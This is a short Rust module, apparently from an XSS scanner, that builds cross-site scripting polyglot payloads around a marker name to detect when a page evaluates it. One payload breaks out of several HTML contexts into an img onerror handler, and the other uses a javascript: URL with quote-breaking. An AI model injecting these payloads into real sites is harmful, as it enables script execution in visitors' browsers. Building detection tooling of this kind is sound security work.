//! What would run in a page, as the bare name of something that tells when it is evaluated.

/// One payload for many contexts; it runs if any of them is one that runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Payload {
    /// Out of text, attributes and elements whose content is text, into an element.
    Markup,
    /// As code, inside strings of either quote, and as an address.
    Code,
}

impl Payload {
    /// Every one.
    pub(super) const ALL: [Self; 2] = [Self::Markup, Self::Code];

    /// With the name in it. There is syntax around the name, so that a page that looks up a member by
    /// the whole value evaluates nothing.
    pub(super) fn with(self, word: &str) -> String {
        match self {
            // An address of no known scheme, so that nothing is asked for.
            Self::Markup => {
                format!(
                    "'\"></title></textarea></style></script></select><img src=x: onerror=({word})>"
                )
            }
            // A label and code where it stands alone, two operands in a quoted string.
            Self::Code => format!("javascript:({word})//'-({word})-'//\"-({word})-\""),
        }
    }
}
